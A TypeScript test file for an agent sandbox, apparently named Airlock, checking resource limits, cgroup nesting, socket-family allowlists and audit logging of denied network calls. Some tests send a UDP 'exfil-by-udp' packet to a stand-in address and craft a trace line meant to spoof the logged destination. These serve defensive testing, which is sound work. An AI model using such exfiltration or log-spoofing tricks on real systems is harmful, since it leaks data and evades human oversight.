// Limits that hold and are always reported: every limit the kernel enforces on a session
// is in the audit log as `sandbox.limit` naming the rule, also when the agent hits it
// and exits at once; /dev/shm is inside the disk cap; the OOM killer takes the agent,
// never Airlock's tracer; the session's cgroup sits below the starter's, so an outer
// limit still binds; sizes are MiB; sockets are an allowlist, and network attempts that
// fail are recorded with their address (IPv6 and UDP too).
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { AuditEvent } from '../../src/audit/index.ts';
import { policySchema } from '../../src/policy/index.ts';
import { createCgroup, starterCgroups } from '../../src/sandbox/limits.ts';
import { socketTarget } from '../../src/sandbox/trace.ts';
import { withSession } from './with-session.ts';
import { tmp, cleanup, isRoot } from '../helpers.ts';
import { leftovers } from '../leftovers.ts';

const limits = (ev: AuditEvent[], rule: string) => ev.filter((e) => e.type === 'sandbox.limit' && e.rule === rule);

describe('limits are enforced in MiB and always recorded', () => {
  it('/dev/shm counts against the disk cap', async () => {
    let out = '';
    const ev = await withSession('sandbox:\n  limits:\n    diskMB: 64\n', async (s) => {
      const r = await s.run([
        'sh',
        '-c',
        'dd if=/dev/zero of=/dev/shm/big bs=1M count=180 2>&1; echo "dd=$?"; du -m /dev/shm/big',
      ]);
      out = r.stdout + r.stderr;
    });
    assert.doesNotMatch(out, /dd=0/, `180 MiB fit into /dev/shm with a 64 MiB disk cap: ${out}`);
    assert.ok(limits(ev, 'sandbox.limits.diskMB').length >= 1, 'the disk cap is recorded');
  });

  it('fileSizeMB is MiB: 3 MiB fit under 4; 5 MiB is stopped by SIGXFSZ and recorded', async () => {
    const results: string[] = [];
    const ev = await withSession('sandbox:\n  limits:\n    fileSizeMB: 4\n', async (s) => {
      for (const n of [3, 5]) {
        const r = await s.run(['sh', '-c', `head -c ${n}M /dev/zero > /tmp/f${n}; echo "rc=$?"; ls -l /tmp/f${n}`]);
        results.push(r.stdout + r.stderr);
      }
    });
    assert.match(results[0]!, /rc=0/, `3 MiB under a 4 MiB limit: ${results[0]}`);
    assert.match(results[0]!, new RegExp(` ${3 * 1024 * 1024} `));
    assert.doesNotMatch(results[1]!, /rc=0/);
    const hit = limits(ev, 'sandbox.limits.fileSizeMB');
    assert.ok(hit.length >= 1, `SIGXFSZ recorded: ${ev.map((e) => e.type).join(',')}`);
    assert.match(String(hit[0]!.data.detail), /SIGXFSZ/);
  });

  it('a disk filled just before the agent exits is still recorded', async () => {
    const ev = await withSession('sandbox:\n  limits:\n    diskMB: 16\n', async (s) => {
      await s.run(['sh', '-c', 'head -c 32M /dev/zero > /tmp/fill 2>/dev/null; exit 0']);
    });
    assert.equal(limits(ev, 'sandbox.limits.diskMB').length, 1, ev.map((e) => e.type).join(','));
  });

  it('the default CPU share is not the whole host', () => {
    assert.ok(policySchema.parse({}).sandbox.limits.cpuPercent <= 100);
  });
});

describe(
  'memory: the OOM killer takes the agent, never the tracer',
  { skip: !isRoot && 'needs root for cgroups' },
  () => {
    it('tmpfs pages beyond memoryMB: an agent process is killed, its exit is traced, the limit recorded', async () => {
      const ev = await withSession('sandbox:\n  limits:\n    memoryMB: 64\n    diskMB: 1024\n', async (s) => {
        await s.run([
          'sh',
          '-c',
          'dd if=/dev/zero of=/tmp/big bs=1M count=400 2>/dev/null; echo "dd=$?"; sleep 1; echo after',
        ]);
      });
      assert.equal(
        limits(ev, 'sandbox.limits.memoryMB').length,
        1,
        ev.map((e) => `${e.type}:${e.rule ?? ''}`).join(','),
      );
      const exits = ev.filter((e) => e.type === 'process.exit');
      assert.ok(
        exits.some((e) => e.data.argv0 === 'dd' && e.data.signal === 'SIGKILL'),
        `the tracer saw dd killed: ${JSON.stringify(exits.map((e) => e.data))}`,
      );
      assert.ok(!ev.some((e) => e.type === 'sandbox.trace_error'), 'the tracer survived');
    });
  },
);

describe('cgroups nest under the starter', { skip: !isRoot && 'needs root for cgroups' }, () => {
  it("the sandbox's processes sit below the cgroup of the process that started Airlock", async () => {
    const mine = starterCgroups();
    let seen: string[] = [];
    await withSession('', async (s) => {
      const h = await s.exec({ argv: ['sh', '-c', 'echo up; sleep 30'], stdio: 'pipe' });
      await new Promise<void>((r) => h.stdout!.once('data', () => r()));
      const pids = leftovers({ markers: [s.id], namespaces: [] })
        .map((l) => Number(/^process (\d+)/.exec(l)?.[1]))
        .filter(Boolean);
      seen = pids
        .map((p) => {
          try {
            return readFileSync(`/proc/${p}/cgroup`, 'utf8');
          } catch {
            return '';
          }
        })
        .filter((t) => t.includes(s.id));
      h.kill('SIGKILL');
      await h.done;
    });
    assert.ok(seen.length > 0, 'sandbox processes are in the session cgroup');
    for (const text of seen) {
      const theirs = starterCgroups(text);
      for (const c of ['memory', 'pids', '']) {
        const p = theirs.get(c);
        if (p === undefined || !p.includes('airlock/')) continue;
        const base = mine.get(c) ?? '';
        assert.ok(
          p.startsWith(base ? `${base}/` : ''),
          `${c || 'unified'}: ${p} is not below the starter's ${base || '/'}`,
        );
      }
    }
  });

  it('v1 and v2: the session cgroup is created below the starter path of each hierarchy (a stand-in cgroupfs)', () => {
    for (const v2 of [false, true]) {
      const root = tmp('airlock-cgroupfs-');
      try {
        if (v2) writeFileSync(join(root, 'cgroup.controllers'), 'memory pids cpu\n');
        else for (const c of ['memory', 'pids', 'cpu', 'freezer']) mkdirSync(join(root, c));
        const self = starterCgroups(
          v2 ? '0::/ci.slice/job-7.scope\n' : '4:memory:/ci/job-7\n3:pids:/ci/job-7\n2:cpu,cpuacct:/\n1:freezer:/\n',
        );
        const cg = createCgroup('ses-x', policySchema.parse({}).sandbox.limits, { root, self })!;
        assert.ok(cg, 'created');
        const expected = v2
          ? [join(root, 'ci.slice/job-7.scope/airlock/ses-x')]
          : [
              join(root, 'memory/ci/job-7/airlock/ses-x'),
              join(root, 'pids/ci/job-7/airlock/ses-x'),
              join(root, 'cpu/airlock/ses-x'),
              join(root, 'freezer/airlock/ses-x'),
            ];
        assert.deepEqual(cg.dirs, expected);
      } finally {
        cleanup(root);
      }
    }
  });

  it('parses /proc/self/cgroup for v1 and v2', () => {
    const m = starterCgroups('12:cpu,cpuacct:/a/b\n4:memory:/process_api/x\n0::/user.slice/s.scope\n');
    assert.equal(m.get('cpu'), 'a/b');
    assert.equal(m.get('cpuacct'), 'a/b');
    assert.equal(m.get('memory'), 'process_api/x');
    assert.equal(m.get(''), 'user.slice/s.scope');
  });
});

describe('sockets: an allowlist of families; failed network attempts recorded with their address', () => {
  it('AF_VSOCK, AF_ALG, AF_PACKET, AF_UNIX are refused; AF_INET and AF_INET6 work', async () => {
    let out = '';
    await withSession('', async (s) => {
      const r = await s.run([
        'python3',
        '-c',
        `import socket, errno
for name in ["AF_VSOCK", "AF_ALG", "AF_PACKET", "AF_UNIX", "AF_INET", "AF_INET6"]:
    fam = getattr(socket, name)
    typ = socket.SOCK_SEQPACKET if name == "AF_ALG" else socket.SOCK_DGRAM
    try:
        socket.socket(fam, typ, 0).close(); print(name, "OPENED")
    except OSError as e:
        print(name, errno.errorcode.get(e.errno, e.errno))`,
      ]);
      out = r.stdout + r.stderr;
    });
    for (const f of ['AF_VSOCK', 'AF_ALG', 'AF_PACKET', 'AF_UNIX'])
      assert.match(out, new RegExp(`^${f} EAFNOSUPPORT$`, 'm'), out);
    for (const f of ['AF_INET', 'AF_INET6']) assert.match(out, new RegExp(`^${f} OPENED$`, 'm'), out);
  });

  it('an IPv6 connect and a UDP sendto that fail are recorded with their address', async () => {
    const ev = await withSession('', async (s) => {
      await s.run([
        'python3',
        '-c',
        `import socket
try: socket.create_connection(("2001:db8::7", 443), timeout=2)
except OSError as e: print("v6", e)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: u.sendto(b"exfil-by-udp", ("198.51.100.7", 53))
except OSError as e: print("udp", e)`,
      ]);
    });
    const denied = ev.filter((e) => e.type === 'sandbox.denied').map((e) => `${e.data.syscall} ${e.data.target}`);
    assert.ok(denied.includes('connect [2001:db8::7]:443'), denied.join('\n'));
    assert.ok(denied.includes('sendto 198.51.100.7:53'), denied.join('\n'));
  });

  it('a payload cannot spell the recorded address', () => {
    const line = String.raw`3, "sin_addr=inet_addr(\"6.6.6.6\") sin_port=htons(1)", 40, 0, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("198.51.100.7")}, 16`;
    assert.equal(socketTarget(line), '198.51.100.7:53');
    assert.equal(
      socketTarget(
        '3, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:db8::7", &sin6_addr), sin6_scope_id=0}, 28',
      ),
      '[2001:db8::7]:443',
    );
  });
});
